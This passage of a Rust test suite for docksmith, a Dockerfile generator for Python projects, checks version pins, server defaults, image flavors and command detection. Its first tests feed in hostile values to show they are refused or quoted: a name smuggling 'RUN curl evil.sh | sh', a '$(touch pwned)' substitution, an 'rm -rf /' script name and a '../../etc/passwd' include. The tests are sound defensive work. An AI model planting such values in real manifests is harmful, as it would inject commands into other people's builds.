//! Python: hostile manifests, installers, versions, servers and flavors that the
//! examples do not cover (checked as rendered Dockerfiles; the examples are built).

use predicates::prelude::*;

use docksmith::render::verify;

use crate::support::mutations;

use crate::support::{docksmith, generate_err, generate_ok, project};

const FLASK_APP: (&str, &str) = ("app.py", "from flask import Flask\napp = Flask(__name__)\n");

fn pyproject(name: &str, extra: &str) -> String {
    format!(
        "[project]\nname = \"{name}\"\nversion = \"1.0\"\nrequires-python = \">=3.11\"\ndependencies = [\"flask\", \"gunicorn\"]\n{extra}"
    )
}

#[test]
fn hostile_project_names_are_refused_or_quoted() {
    // A TOML escape puts a newline into the name: refused, naming the file and line.
    let stderr = generate_err(
        &[
            (
                "pyproject.toml",
                &pyproject("a\\nRUN curl evil.sh | sh", ""),
            ),
            FLASK_APP,
        ],
        &[],
        1,
    );
    assert!(
        stderr.contains(
            "pyproject.toml:2: project name `a\\nRUN curl evil.sh | sh` contains a newline"
        ),
        "{stderr}"
    );
    // Quotes and $(...) are quoted in the label, never run.
    let (dockerfile, _) = generate_ok(
        &[
            ("pyproject.toml", &pyproject("x\\\"$(touch pwned)", "")),
            FLASK_APP,
        ],
        &[],
    );
    assert!(
        dockerfile.contains(r#"org.opencontainers.image.title="x\"\$(touch pwned)""#),
        "{dockerfile}"
    );
    // A console script whose name is shell syntax never becomes a command.
    let stderr = generate_err(
        &[(
            "pyproject.toml",
            "[project]\nname = \"tool\"\nversion = \"1\"\n[project.scripts]\n\"x;rm -rf /\" = \"tool:main\"\n[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"setuptools.build_meta\"\n",
        )],
        &[],
        1,
    );
    assert!(
        stderr.contains("console script `x;rm -rf /` is not a plain file name"),
        "{stderr}"
    );
}

#[test]
fn broken_and_huge_manifests_are_clear_errors() {
    let stderr = generate_err(&[("pyproject.toml", "[project\nname = 1\n")], &[], 1);
    assert!(stderr.contains("pyproject.toml:1"), "{stderr}");
    let stderr = generate_err(
        &[
            ("Pipfile", "[packages]\nflask = \"*\"\n"),
            ("Pipfile.lock", "{\"default\": "),
            FLASK_APP,
        ],
        &[],
        1,
    );
    assert!(stderr.contains("Pipfile.lock:1: invalid JSON"), "{stderr}");
    assert!(stderr.contains("pipenv lock"), "{stderr}");
    let huge = "flask==3.1.0\n".repeat(200_000);
    let stderr = generate_err(&[("requirements.txt", &huge), FLASK_APP], &[], 1);
    assert!(stderr.contains("requirements.txt"), "{stderr}");
    // Binary garbage is not a manifest.
    let stderr = generate_err(&[("pyproject.toml", "\u{0}\u{1}\u{2}")], &[], 1);
    assert!(stderr.contains("pyproject.toml"), "{stderr}");
}

#[test]
fn requirements_files_keep_their_options() {
    // Hashes turn on --require-hashes; includes are bind-mounted; markers parse.
    let (dockerfile, _) = generate_ok(
        &[
            (
                "requirements.txt",
                "-r requirements/base.txt\nflask==3.1.0 --hash=sha256:abc ; python_version >= \"3.9\"\n",
            ),
            (
                "requirements/base.txt",
                "gunicorn==23.0.0 --hash=sha256:def\n",
            ),
            FLASK_APP,
        ],
        &[],
    );
    assert!(
        dockerfile.contains("pip install --require-hashes -r requirements.txt"),
        "{dockerfile}"
    );
    assert!(
        dockerfile.contains(
            "--mount=type=bind,source=requirements/base.txt,target=requirements/base.txt"
        ),
        "{dockerfile}"
    );
    // An include that climbs out of the project is not followed.
    let (_, stderr) = generate_ok(
        &[
            ("requirements.txt", "-r ../../etc/passwd\nflask\ngunicorn\n"),
            FLASK_APP,
        ],
        &[],
    );
    assert!(!stderr.contains("passwd"), "{stderr}");
    // Credentials in an index URL are warned about.
    let (_, stderr) = generate_ok(
        &[
            (
                "requirements.txt",
                "--extra-index-url https://user:s3cret@pypi.example.com/simple\nflask\ngunicorn\n",
            ),
            FLASK_APP,
        ],
        &[],
    );
    assert!(stderr.contains("index URL with credentials"), "{stderr}");
    // `.` in the requirements installs the project after the sources are copied.
    let (dockerfile, _) = generate_ok(
        &[
            ("requirements.txt", "-e .\n"),
            ("pyproject.toml", &pyproject("web", "")),
            FLASK_APP,
        ],
        &[],
    );
    let copy = dockerfile.find("COPY . .").unwrap();
    let install = dockerfile.find("pip install -r requirements.txt").unwrap();
    assert!(install > copy, "{dockerfile}");
}

#[test]
fn python_versions_come_from_pins_then_constraints() {
    let cases: &[(&[(&str, &str)], &str)] = &[
        (
            &[(".python-version", "3.11.4\n")],
            "python:3.11-slim-bookworm",
        ),
        (
            &[("runtime.txt", "python-3.10.12\n")],
            "python:3.10-slim-bookworm",
        ),
        (
            &[(".tool-versions", "nodejs 22.1.0\npython 3.12.3\n")],
            "python:3.12-slim-bookworm",
        ),
        (
            &[(".python-version", "pypy3.10\n")],
            "python:3.14-slim-bookworm",
        ),
    ];
    for (files, image) in cases {
        let mut all = files.to_vec();
        all.push(("requirements.txt", "flask\ngunicorn\n"));
        all.push(FLASK_APP);
        let (dockerfile, _) = generate_ok(&all, &[]);
        assert!(
            dockerfile.contains(&format!("FROM {image} AS build")),
            "{files:?}\n{dockerfile}"
        );
    }
    let pyproject = "[project]\nname = \"w\"\nversion = \"1\"\nrequires-python = \">=3.9,<3.11\"\ndependencies = [\"flask\", \"gunicorn\"]\n";
    let (dockerfile, _) = generate_ok(&[("pyproject.toml", pyproject), FLASK_APP], &[]);
    assert!(
        dockerfile.contains("FROM python:3.10-slim-bookworm AS build"),
        "{dockerfile}"
    );
    let pipfile =
        "[packages]\nflask = \"*\"\ngunicorn = \"*\"\n[requires]\npython_version = \"3.11\"\n";
    let (dockerfile, stderr) = generate_ok(&[("Pipfile", pipfile), FLASK_APP], &[]);
    assert!(
        dockerfile.contains("FROM python:3.11-slim-bookworm AS build"),
        "{dockerfile}"
    );
    assert!(stderr.contains("no Pipfile.lock"), "{stderr}");
}

#[test]
fn a_missing_server_is_installed_unless_refused() {
    let files: &[(&str, &str)] = &[
        ("requirements.txt", "fastapi==0.115.0\n"),
        ("main.py", "from fastapi import FastAPI\napp = FastAPI()\n"),
    ];
    // Zero flags: a pinned uvicorn in a layer of its own, before the sources.
    let (dockerfile, stderr) = generate_ok(files, &[]);
    let install = dockerfile.find("pip install uvicorn==").expect(&dockerfile);
    let sources = dockerfile.find("COPY . .").expect(&dockerfile);
    assert!(install < sources, "{dockerfile}");
    assert!(
        dockerfile.contains(
            "# uvicorn is not a dependency of the project: docksmith installs a pinned one"
        ),
        "{dockerfile}"
    );
    assert!(
        dockerfile
            .contains(r#"CMD ["uvicorn", "main:app", "--host", "0.0.0.0", "--port", "8000"]"#),
        "{dockerfile}"
    );
    assert!(
        stderr.contains("uvicorn is not a dependency: uvicorn")
            && stderr.contains("(the default; --add-server=false refuses)"),
        "{stderr}"
    );
    // Asked for explicitly, it says who asked.
    let (_, stderr) = generate_ok(files, &["--add-server"]);
    assert!(stderr.contains("(set by flag --add-server)"), "{stderr}");
    // Refused: an error that names the file and says how to fix it.
    let stderr = generate_err(files, &["--add-server=false"], 1);
    assert!(
        stderr.contains(
            "uvicorn, which is not a dependency (and flag --add-server refuses to add it)"
        ),
        "{stderr}"
    );
    assert!(
        stderr.contains("hint: add uvicorn to the project's dependencies"),
        "{stderr}"
    );
    // The environment says the same as the flag.
    let dir = project(files);
    docksmith()
        .arg("generate")
        .arg(dir.path())
        .env("DOCKSMITH_ADD_SERVER", "false")
        .assert()
        .code(1);
}

#[test]
fn alpine_is_refused_for_glibc_only_wheels_and_native_packages_get_their_libraries() {
    let stderr = generate_err(
        &[
            ("requirements.txt", "torch==2.5.0\nflask\ngunicorn\n"),
            FLASK_APP,
        ],
        &["--flavor", "alpine"],
        1,
    );
    assert!(
        stderr.contains("torch publishes no musllinux wheels (requirements.txt)"),
        "{stderr}"
    );
    // A release older than the first musllinux wheel is refused; a newer one builds.
    let stderr = generate_err(
        &[
            ("requirements.txt", "numpy==1.24.4\nflask\ngunicorn\n"),
            FLASK_APP,
        ],
        &["--flavor", "alpine"],
        1,
    );
    assert!(
        stderr.contains("numpy 1.24.4 has no musllinux wheel (the first is 1.25.0)"),
        "{stderr}"
    );
    generate_ok(
        &[
            ("requirements.txt", "numpy==2.1.0\nflask\ngunicorn\n"),
            FLASK_APP,
        ],
        &["--flavor", "alpine"],
    );
    let files: &[(&str, &str)] = &[
        ("requirements.txt", "mysqlclient==2.2.4\nflask\ngunicorn\n"),
        FLASK_APP,
    ];
    let (dockerfile, _) = generate_ok(files, &["--flavor", "slim"]);
    assert!(
        dockerfile.contains("apt-get install -y --no-install-recommends build-essential default-libmysqlclient-dev pkg-config"),
        "{dockerfile}"
    );
    assert!(dockerfile.contains("libmariadb3"), "{dockerfile}");
    // Distroless (the default) has no apt: the library the module links is copied
    // from the builder, where the -dev package brought it, as ldd finds it.
    let (dockerfile, _) = generate_ok(files, &[]);
    let (build, runtime) = dockerfile.split_once("# ---- runtime").unwrap();
    assert!(
        build.contains("build-essential default-libmysqlclient-dev pkg-config"),
        "{dockerfile}"
    );
    assert!(build.contains("-exec ldd {} +"), "{dockerfile}");
    assert!(
        runtime.contains("FROM gcr.io/distroless/cc-debian12:nonroot")
            && !runtime.contains("apt-get"),
        "{dockerfile}"
    );
    let (dockerfile, _) = generate_ok(files, &["--flavor", "alpine"]);
    assert!(
        dockerfile.contains("apk add --no-cache build-base mariadb-dev pkgconf"),
        "{dockerfile}"
    );
    assert!(
        dockerfile.contains("FROM python:3.14-alpine"),
        "{dockerfile}"
    );
}

#[test]
fn scratch_is_refused_with_the_reason() {
    let files: &[(&str, &str)] = &[("requirements.txt", "flask\ngunicorn\n"), FLASK_APP];
    let stderr = generate_err(files, &["--flavor", "scratch"], 1);
    assert!(stderr.contains("scratch lacks"), "{stderr}");
    assert!(stderr.contains("--flavor distroless"), "{stderr}");
}

#[test]
fn distroless_runs_the_builders_own_python_and_gives_way_to_slim_for_runtime_packages() {
    let files: &[(&str, &str)] = &[("requirements.txt", "flask\ngunicorn\n"), FLASK_APP];
    let (dockerfile, _) = generate_ok(files, &[]);
    let (build, runtime) = dockerfile.split_once("# ---- runtime").unwrap();
    // The interpreter the virtualenv links to, its shared library and standard library;
    // pip leaves the virtualenv (the project does not depend on it).
    for gathered in [
        "python=\"$(readlink -f /usr/local/bin/python3)\"",
        "cp -a /usr/local/bin/python /usr/local/bin/python3 \"$python\" /runtime/usr/local/bin/",
        "cp -a /usr/local/lib/libpython\"$version\".so* /runtime/usr/lib/",
        "rm -rf /opt/venv/bin/pip ",
    ] {
        assert!(build.contains(gathered), "{gathered}:\n{dockerfile}");
    }
    assert!(
        runtime.contains("FROM gcr.io/distroless/cc-debian12:nonroot\n")
            && runtime
                .contains("COPY --from=build /runtime/ /\nCOPY --from=build /opt/venv /opt/venv\n"),
        "{dockerfile}"
    );
    // A project that depends on pip keeps it.
    let (dockerfile, _) = generate_ok(
        &[
            ("requirements.txt", "flask\ngunicorn\npip==24.0\n"),
            FLASK_APP,
        ],
        &[],
    );
    assert!(
        !dockerfile.contains("rm -rf /opt/venv/bin/pip"),
        "{dockerfile}"
    );
    // Packages added to the runtime need apt: slim, and the plan says why.
    let config = "runtime-packages = [\"libmagic1\"]\n";
    let mut with_packages = files.to_vec();
    with_packages.push(("docksmith.toml", config));
    let (dockerfile, _) = generate_ok(&with_packages, &[]);
    assert!(
        dockerfile.contains("FROM python:3.14-slim-bookworm\n") && dockerfile.contains("libmagic1"),
        "{dockerfile}"
    );
    let stderr = generate_err(&with_packages, &["--flavor", "distroless"], 1);
    assert!(
        stderr.contains("adds runtime packages, and distroless has no package manager"),
        "{stderr}"
    );
}

#[test]
fn frameworks_decide_the_command() {
    // Django without STATIC_ROOT: no collectstatic.
    let manage =
        "import os\nos.environ.setdefault(\"DJANGO_SETTINGS_MODULE\", \"site_cfg.settings\")\n";
    let (dockerfile, _) = generate_ok(
        &[
            ("requirements.txt", "django\ngunicorn\n"),
            ("manage.py", manage),
            ("site_cfg/settings.py", "DEBUG = False\n"),
        ],
        &[],
    );
    assert!(!dockerfile.contains("collectstatic"), "{dockerfile}");
    assert!(
        dockerfile
            .contains(r#"CMD ["gunicorn", "site_cfg.wsgi:application", "--bind", "0.0.0.0:8000"]"#),
        "{dockerfile}"
    );
    // Streamlit listens on all interfaces, headless, on its port.
    let (dockerfile, _) = generate_ok(
        &[
            ("requirements.txt", "streamlit\n"),
            (
                "streamlit_app.py",
                "import streamlit as st\nst.write('hi')\n",
            ),
        ],
        &[],
    );
    assert!(dockerfile.contains("EXPOSE 8501"), "{dockerfile}");
    assert!(
        dockerfile.contains(r#"CMD ["streamlit", "run", "streamlit_app.py", "--server.port", "8501", "--server.address", "0.0.0.0", "--server.headless", "true"]"#),
        "{dockerfile}"
    );
    // A plain script is the entrypoint, so `docker run image --flag` reaches it.
    let (dockerfile, _) = generate_ok(
        &[
            ("requirements.txt", "requests\n"),
            ("main.py", "print('hi')\n"),
        ],
        &[],
    );
    assert!(
        dockerfile.contains(r#"ENTRYPOINT ["python", "main.py"]"#),
        "{dockerfile}"
    );
    assert!(!dockerfile.contains("HEALTHCHECK"), "{dockerfile}");
    // gunicorn binds what docksmith says: the dev server's loopback host is not a
    // problem, and its port is the one the app expects.
    let (dockerfile, stderr) = generate_ok(
        &[
            ("requirements.txt", "flask\ngunicorn\n"),
            (
                "app.py",
                "from flask import Flask\napp = Flask(__name__)\napp.run(host=\"127.0.0.1\", port=5000)\n",
            ),
        ],
        &[],
    );
    assert!(dockerfile.contains("0.0.0.0:5000"), "{dockerfile}");
    assert!(!stderr.contains("loopback"), "{stderr}");
    // A script that opens its own socket on loopback is warned about.
    let (_, stderr) = generate_ok(
        &[
            ("requirements.txt", "aiohttp\n"),
            (
                "main.py",
                "from aiohttp import web\napp = web.Application()\nweb.run_app(app, host=\"127.0.0.1\", port=8080)\n",
            ),
        ],
        &[],
    );
    assert!(stderr.contains("loopback address only"), "{stderr}");
}

#[test]
fn nothing_to_run_is_an_error_with_a_hint() {
    let stderr = generate_err(
        &[
            ("requirements.txt", "requests\n"),
            ("lib/util.py", "X = 1\n"),
        ],
        &[],
        1,
    );
    assert!(stderr.contains("no entry point"), "{stderr}");
    assert!(stderr.contains("[project.scripts]"), "{stderr}");
}

#[test]
fn uv_workspaces_with_several_apps_need_a_package() {
    let member = |name: &str| {
        format!(
            "[project]\nname = \"{name}\"\nversion = \"1\"\ndependencies = [\"fastapi\", \"uvicorn\"]\n"
        )
    };
    let app = "from fastapi import FastAPI\napp = FastAPI()\n";
    let files: Vec<(&str, String)> = vec![
        (
            "pyproject.toml",
            "[tool.uv.workspace]\nmembers = [\"svc/*\"]\n".into(),
        ),
        ("uv.lock", "version = 1\n".into()),
        ("svc/a/pyproject.toml", member("svc-a")),
        ("svc/a/main.py", app.into()),
        ("svc/b/pyproject.toml", member("svc-b")),
        ("svc/b/main.py", app.into()),
    ];
    let files: Vec<(&str, &str)> = files.iter().map(|(p, t)| (*p, t.as_str())).collect();
    let dir = project(&files);
    docksmith()
        .arg("generate")
        .arg(dir.path())
        .assert()
        .code(3)
        .stderr(predicate::str::contains("svc-a").and(predicate::str::contains("svc-b")));
    let (dockerfile, _) = generate_ok(&files, &["--package", "svc-b"]);
    assert!(
        dockerfile.contains("uv sync --frozen --no-dev --no-install-workspace --package svc-b"),
        "{dockerfile}"
    );
    assert!(dockerfile.contains("WORKDIR /app/svc/b"), "{dockerfile}");
}

#[test]
fn pins_without_wheels_step_the_python_minor_down_or_build_from_source() {
    // No version pin: the newest minor numpy 1.24.4 has wheels for.
    let files: &[(&str, &str)] = &[
        ("requirements.txt", "numpy==1.24.4\n"),
        ("main.py", "import numpy\n"),
    ];
    let (dockerfile, _) = generate_ok(files, &[]);
    assert!(
        dockerfile.contains("FROM python:3.11-slim-bookworm AS build"),
        "{dockerfile}"
    );
    let dir = project(files);
    docksmith()
        .arg("plan")
        .arg(dir.path())
        .assert()
        .success()
        .stdout(predicate::str::contains(
            "numpy 1.24.4 has no wheel for Python 3.14",
        ));
    // A pinned minor is kept: numpy builds from source, with a compiler in the builder only.
    let mut pinned = files.to_vec();
    pinned.push((".python-version", "3.12\n"));
    let (dockerfile, stderr) = generate_ok(&pinned, &[]);
    assert!(
        stderr.contains(
            "numpy 1.24.4 has no wheel for Python 3.12 (the first is 1.26.0): it builds from source"
        ),
        "{stderr}"
    );
    assert!(
        dockerfile.contains("apt-get install -y --no-install-recommends build-essential"),
        "{dockerfile}"
    );
    // lxml from source needs its headers, and its libraries at run time.
    let (dockerfile, _) = generate_ok(
        &[
            ("requirements.txt", "lxml==4.9.2\n"),
            ("main.py", "import lxml\n"),
            (".python-version", "3.12\n"),
        ],
        &["--flavor", "slim"],
    );
    assert!(
        dockerfile.contains("build-essential libxml2-dev libxslt1-dev"),
        "{dockerfile}"
    );
    assert!(dockerfile.contains("libxml2 libxslt1.1"), "{dockerfile}");
    // What cannot be built from source is an error with a way out.
    let stderr = generate_err(
        &[
            ("requirements.txt", "torch==2.1.0\n"),
            ("main.py", "import torch\n"),
            (".python-version", "3.12\n"),
        ],
        &[],
        1,
    );
    assert!(
        stderr.contains("building torch from source (torch 2.1.0 has no wheel for Python 3.12"),
        "{stderr}"
    );
    assert!(
        stderr.contains("hint: pin a torch release with wheels for Python 3.12"),
        "{stderr}"
    );
    // Versions come from lockfiles too (uv.lock here).
    let (dockerfile, _) = generate_ok(
        &[
            (
                "pyproject.toml",
                "[project]\nname = \"calc\"\nversion = \"1\"\nrequires-python = \">=3.9\"\ndependencies = [\"numpy\"]\n[tool.uv]\npackage = false\n",
            ),
            (
                "uv.lock",
                "version = 1\n[[package]]\nname = \"numpy\"\nversion = \"1.22.4\"\n",
            ),
            ("main.py", "import numpy\n"),
        ],
        &[],
    );
    assert!(
        dockerfile.contains("FROM python:3.10-slim-bookworm AS build"),
        "{dockerfile}"
    );
}

#[test]
fn poetry_1_projects_install_with_the_poetry_that_wrote_the_lock() {
    let pyproject = "[tool.poetry]\nname = \"legacy\"\nversion = \"1.0\"\ndescription = \"\"\nauthors = []\n\n[tool.poetry.dependencies]\npython = \"^3.10\"\nflask = \"^3.0\"\ngunicorn = \"^23.0\"\n\n[build-system]\nrequires = [\"poetry-core\"]\nbuild-backend = \"poetry.core.masonry.api\"\n";
    let lock = "# This file is automatically @generated by Poetry 1.8.3 and should not be changed by hand.\n\n[[package]]\nname = \"flask\"\nversion = \"3.0.3\"\n\n[[package]]\nname = \"gunicorn\"\nversion = \"23.0.0\"\n";
    let (dockerfile, _) = generate_ok(
        &[
            ("pyproject.toml", pyproject),
            ("poetry.lock", lock),
            ("legacy/__init__.py", ""),
            (
                "legacy/web.py",
                "from flask import Flask\napp = Flask(__name__)\n",
            ),
        ],
        &[],
    );
    assert!(
        dockerfile.contains("pip install poetry==1.8.3"),
        "{dockerfile}"
    );
    assert!(
        dockerfile.contains("poetry install --only main --no-root"),
        "{dockerfile}"
    );
    // The project is a package: installed after the sources.
    assert_eq!(
        dockerfile.matches("poetry install --only main").count(),
        2,
        "{dockerfile}"
    );
    assert!(
        dockerfile.contains("FROM python:3.14-slim-bookworm AS build"),
        "{dockerfile}"
    );
    assert!(
        dockerfile.contains(r#"CMD ["gunicorn", "legacy.web:app", "--bind", "0.0.0.0:8000"]"#),
        "{dockerfile}"
    );
}

#[test]
fn module_paths_with_quotes_are_escaped_in_the_exec_form() {
    let (dockerfile, _) = generate_ok(
        &[
            ("requirements.txt", "flask\ngunicorn\n"),
            (
                "we\"ird.py",
                "from flask import Flask\napp = Flask(__name__)\n",
            ),
        ],
        &[],
    );
    assert!(
        dockerfile.contains(r#"CMD ["gunicorn", "we\"ird:app", "--bind", "0.0.0.0:8000"]"#),
        "{dockerfile}"
    );
}

#[test]
fn a_gunicorn_config_on_loopback_is_warned_about() {
    let (dockerfile, stderr) = generate_ok(
        &[
            ("requirements.txt", "flask\ngunicorn\n"),
            FLASK_APP,
            ("gunicorn.conf.py", "bind = \"127.0.0.1:8050\"\n"),
        ],
        &[],
    );
    assert!(stderr.contains("loopback address only"), "{stderr}");
    assert!(stderr.contains("gunicorn.conf.py:1"), "{stderr}");
    assert!(
        dockerfile.contains(r#"CMD ["gunicorn", "app:app"]"#),
        "{dockerfile}"
    );
}

#[test]
fn no_panic_on_mutated_python_manifests_and_sources() {
    let pyproject = "[project]\nname = \"shop\"\nversion = \"1.0\"\nrequires-python = \">=3.10,<3.13\"\ndependencies = [\"fastapi==0.115.0\", \"uvicorn[standard]>=0.30\", \"numpy==1.26.4 ; python_version > '3.9'\"]\n[project.scripts]\nshop = \"shop.cli:main\"\n[tool.uv.workspace]\nmembers = [\"pkgs/*\"]\n";
    let requirements = "-r base.txt\n--index-url https://pypi.org/simple\nflask==3.1.0 --hash=sha256:abc\npsycopg2>=2.9 ; sys_platform == 'linux'\n-e .\n";
    let app = "import os\nfrom fastapi import FastAPI\napp: FastAPI = FastAPI()\nif __name__ == \"__main__\":\n    uvicorn.run(app, host=\"127.0.0.1\", port=int(os.environ.get(\"PORT\", 8000)))\n";
    for (i, ((p, r), a)) in mutations(pyproject, 60)
        .into_iter()
        .zip(mutations(requirements, 60))
        .zip(mutations(app, 60))
        .enumerate()
        .step_by(3)
    {
        let dir = crate::support::project(&[
            ("pyproject.toml", &p),
            ("requirements.txt", &r),
            ("main.py", &a),
            ("pkgs/a/pyproject.toml", &p),
        ]);
        let settings = crate::support::settings(dir.path(), None);
        if let Ok((_, rendered)) = docksmith::pipeline::generate(dir.path(), &settings) {
            verify::verify(&rendered.dockerfile).unwrap_or_else(|e| panic!("mutation {i}: {e}"));
        }
    }
}

#[test]
fn the_procfile_web_process_is_the_start_command() {
    let files: &[(&str, &str)] = &[
        ("requirements.txt", "flask==3.1.0\ngunicorn==23.0.0\n"),
        FLASK_APP,
        (
            "Procfile",
            "release: flask db upgrade\nweb: python -m flask db upgrade && gunicorn app:app -b 0.0.0.0:$PORT\n",
        ),
    ];
    let (dockerfile, stderr) = generate_ok(files, &["--port", "9000"]);
    assert!(
        dockerfile.contains(r#"CMD ["gunicorn", "app:app", "-b", "0.0.0.0:9000"]"#),
        "{dockerfile}"
    );
    assert!(dockerfile.contains("ENV PORT=\"9000\""), "{dockerfile}");
    assert!(dockerfile.contains("EXPOSE 9000"), "{dockerfile}");
    assert!(
        stderr.contains("the Procfile runs python -m flask db upgrade before the server"),
        "{stderr}"
    );
    // A Procfile whose program the image would not have is not used.
    let (dockerfile, _) = generate_ok(
        &[
            ("requirements.txt", "flask==3.1.0\ngunicorn==23.0.0\n"),
            FLASK_APP,
            ("Procfile", "web: bin/start-nginx\n"),
        ],
        &[],
    );
    assert!(
        dockerfile.contains(r#"CMD ["gunicorn", "app:app""#),
        "{dockerfile}"
    );
    // Shell syntax an exec form cannot hold: not used either.
    let (dockerfile, _) = generate_ok(
        &[
            ("requirements.txt", "flask==3.1.0\ngunicorn==23.0.0\n"),
            FLASK_APP,
            ("Procfile", "web: gunicorn app:app | tee log\n"),
        ],
        &[],
    );
    assert!(!dockerfile.contains("tee"), "{dockerfile}");
}

#[test]
fn a_project_that_installs_itself_keeps_the_readme_its_backend_reads() {
    // pyproject's `readme` (and hatch-fancy-pypi-readme fragments) are read by the
    // build backend: excluding *.md breaks `pip install .`.
    let dir = project(&[
        (
            "pyproject.toml",
            &pyproject(
                "tool",
                "readme = \"README.md\"\n[project.scripts]\ntool = \"tool:main\"\n[build-system]\nrequires = [\"hatchling\"]\nbuild-backend = \"hatchling.build\"\n",
            ),
        ),
        ("tool.py", "def main():\n    print('tool')\n"),
        ("README.md", "# tool\n"),
        ("CHANGES.md", "## 1.0\n"),
        ("docs/guide.md", "# guide\n"),
    ]);
    docksmith().arg("init").arg(dir.path()).assert().success();
    let ignore = std::fs::read_to_string(dir.path().join(".dockerignore")).unwrap();
    let rules = docksmith::dockerignore::IgnoreRules::parse(&ignore);
    for needed in ["README.md", "CHANGES.md", "pyproject.toml", "tool.py"] {
        assert!(!rules.excludes(needed), "{needed} excluded by:\n{ignore}");
    }
}

#[test]
fn poetry_binds_the_readme_into_its_dependency_step() {
    // `poetry install --no-root` still validates the readme pyproject names.
    let (dockerfile, _) = generate_ok(
        &[
            (
                "pyproject.toml",
                "[tool.poetry]\nname = \"tool\"\nversion = \"1.0\"\ndescription = \"\"\nauthors = []\nreadme = \"README.md\"\n\n[tool.poetry.dependencies]\npython = \"^3.11\"\n\n[tool.poetry.scripts]\ntool = \"tool:main\"\n\n[build-system]\nrequires = [\"poetry-core\"]\nbuild-backend = \"poetry.core.masonry.api\"\n",
            ),
            (
                "poetry.lock",
                "# This file is automatically @generated by Poetry 2.1.1 and should not be changed by hand.\npackage = []\n",
            ),
            ("tool.py", "def main():\n    print('tool')\n"),
            ("README.md", "# tool\n"),
        ],
        &[],
    );
    let dependencies = dockerfile
        .split("poetry install --only main --no-root")
        .next()
        .expect(&dockerfile);
    assert!(
        dependencies.contains("--mount=type=bind,source=README.md,target=README.md"),
        "{dockerfile}"
    );
}

#[test]
fn ports_from_options_and_configuration_not_from_other_commands() {
    // A console script's click option default is its port (datasette).
    let (dockerfile, _) = crate::support::generate_ok(
        &[
            (
                "pyproject.toml",
                "[project]\nname = \"sette\"\nversion = \"1.0\"\ndependencies = [\"click\"]\n\n[project.scripts]\nsette = \"sette.cli:cli\"\n",
            ),
            ("sette/__init__.py", ""),
            (
                "sette/cli.py",
                "import click\n\n@click.command()\n@click.option(\n    \"-p\",\n    \"--port\",\n    default=8001,\n)\ndef cli(port):\n    serve(port)\n",
            ),
        ],
        &[],
    );
    assert!(dockerfile.contains("EXPOSE 8001"), "{dockerfile}");
    // Django: a management command's --port is its own, and the server section of
    // the app's settings file moves the framework's default.
    let (dockerfile, _) = crate::support::generate_ok(
        &[
            ("requirements.txt", "Django==5.1\n"),
            (
                "manage.py",
                "import os\nos.environ.setdefault(\"DJANGO_SETTINGS_MODULE\", \"hc.settings\")\n",
            ),
            ("hc/__init__.py", ""),
            (
                "hc/wsgi.py",
                "from django.core.wsgi import get_wsgi_application\napplication = get_wsgi_application()\n",
            ),
            ("hc/settings.py", "ROOT_URLCONF = 'hc.urls'\n"),
            (
                "hc/api/management/commands/smtpd.py",
                "def add_arguments(self, parser):\n    parser.add_argument(\"--port\", type=int, default=25)\n",
            ),
        ],
        &[],
    );
    assert!(dockerfile.contains("EXPOSE 8000"), "{dockerfile}");
    let (dockerfile, _) = crate::support::generate_ok(
        &[
            ("requirements.txt", "flask==3.0.0\n"),
            ("searx/__init__.py", ""),
            (
                "searx/webapp.py",
                "from flask import Flask\napp = Flask(__name__)\n",
            ),
            (
                "searx/settings.yml",
                "general:\n  debug: false\nredis:\n  port: 6379\nserver:\n  port: 8888\n  bind_address: \"127.0.0.1\"\n",
            ),
        ],
        &[],
    );
    assert!(dockerfile.contains("EXPOSE 8888"), "{dockerfile}");
    assert!(dockerfile.contains("0.0.0.0:8888"), "{dockerfile}");
}

#[test]
fn old_python_pins_get_a_tag_that_exists_upstream() {
    // An end-of-life minor on the last Debian suite it was published for; one older
    // than any published image: the oldest supported minor, with a warning.
    for (pin, from, warned) in [
        ("3.6", "FROM python:3.6-slim-bullseye AS build", false),
        ("3.5.10", "FROM python:3.5-slim-buster AS build", false),
        ("3.7", "FROM python:3.7-slim-bookworm AS build", false),
        ("3.4", "FROM python:3.9-slim-bookworm AS build", true),
    ] {
        let (dockerfile, stderr) = generate_ok(
            &[
                (".python-version", &format!("{pin}\n")),
                ("requirements.txt", "gunicorn==20.0.4\nflask==1.1.2\n"),
                ("app.py", "from flask import Flask\napp = Flask(__name__)\n"),
            ],
            &[],
        );
        assert!(dockerfile.contains(from), "{pin}:\n{dockerfile}");
        assert_eq!(
            stderr.contains("no image on a Debian suite"),
            warned,
            "{pin}: {stderr}"
        );
    }
}

#[test]
fn files_the_sources_open_by_name_stay_in_the_context() {
    // healthchecks reads CHANGELOG.md in its settings; Markdown is otherwise ignored.
    let dir = project(&[
        ("requirements.txt", "flask==3.0.0\n"),
        (
            "app.py",
            "from pathlib import Path\nfrom flask import Flask\napp = Flask(__name__)\nNOTES = (Path(__file__).parent / \"CHANGELOG.md\").read_text()\n",
        ),
        ("CHANGELOG.md", "# 1.0\n"),
        ("README.md", "# app\n"),
    ]);
    docksmith().arg("init").arg(dir.path()).assert().success();
    let ignore = std::fs::read_to_string(dir.path().join(".dockerignore")).unwrap();
    let rules = docksmith::dockerignore::IgnoreRules::parse(&ignore);
    assert!(!rules.excludes("CHANGELOG.md"), "{ignore}");
}

#[test]
fn a_pinned_c_extension_without_a_wheel_steps_the_python_down() {
    // multidict 6.0.4 has wheels up to Python 3.11: the newest minor would compile it.
    let (dockerfile, _) = generate_ok(
        &[
            ("requirements.txt", "aiohttp==3.8.4\nmultidict==6.0.4\n"),
            ("main.py", "import aiohttp\n"),
        ],
        &[],
    );
    assert!(
        dockerfile.contains("FROM python:3.11-slim-bookworm AS build"),
        "{dockerfile}"
    );
}

#[test]
fn a_pipfile_lock_out_of_date_is_synced_with_a_warning() {
    // The lock was written for the Pipfile before `pytest` moved to the dev packages:
    // `pipenv install --deploy` aborts on such a lock; `pipenv sync` installs it.
    let lock_for = |pipfile: &str| {
        let hash = docksmith::lang::python::pipfile::hash(pipfile).unwrap();
        format!(
            "{{\"_meta\": {{\"hash\": {{\"sha256\": \"{hash}\"}}, \"pipfile-spec\": 6}}, \"default\": {{}}, \"develop\": {{}}}}"
        )
    };
    let current = "[packages]\nflask = \"==3.1.0\"\n\n[requires]\npython_version = \"3.12\"\n";
    let (dockerfile, stderr) = generate_ok(
        &[
            ("Pipfile", current),
            ("Pipfile.lock", &lock_for(current)),
            FLASK_APP,
        ],
        &[],
    );
    assert!(dockerfile.contains("pipenv sync"), "{dockerfile}");
    assert!(!stderr.contains("out of date"), "{stderr}");
